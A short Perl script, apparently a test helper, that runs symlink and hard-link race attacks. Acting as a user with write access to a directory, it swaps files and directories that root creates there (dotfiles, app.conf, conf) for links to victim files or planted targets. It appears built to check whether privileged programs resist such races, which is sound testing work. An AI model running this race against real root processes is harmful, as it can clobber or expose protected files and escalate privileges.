# As a user who may write in DIRECTORY: whatever root makes there is exchanged for a link to what is root's.
# perl race.pl KIND DIRECTORY VICTIM_FILE VICTIM_DIRECTORY, until its stdin ends
use strict; use warnings;
my ($kind, $dir, $file, $victims) = @ARGV;
my $count = 0;
sub ended { my $r = ''; vec($r, 0, 1) = 1; return select($r, undef, undef, 0) }
# What is at PATH goes away, and a link to TARGET stands there.
sub exchange { my ($path, $target) = @_; $count++; rename($path, "$dir/gone.$$.$count"); symlink($target, $path) }
$| = 1; print "ready\n";
until (ended()) {
  if ($kind eq 'stage') {
    opendir(my $d, $dir) or die; my @new = grep { /^\./ && !/^\.\.?$/ && ! -l "$dir/$_" } readdir $d; closedir $d;
    exchange("$dir/$_", -d "$dir/$_" ? $victims : $file) for @new;
  } elsif ($kind eq 'target') { exchange("$dir/app.conf", $file); unlink("$dir/app.conf") if rand() < 0.3 }
  elsif ($kind eq 'dangling') { exchange("$dir/app.conf", "$victims/planted"); unlink("$dir/app.conf") if rand() < 0.3 }
  elsif ($kind eq 'hard-link') { $count++; rename("$dir/app.conf", "$dir/gone.$$.$count"); link($file, "$dir/app.conf") }
  elsif ($kind eq 'directory') {
    rename("$dir/conf", "$dir/real") ; symlink($victims, "$dir/conf");
    unlink("$dir/conf"); rename("$dir/real", "$dir/conf");
  }
}
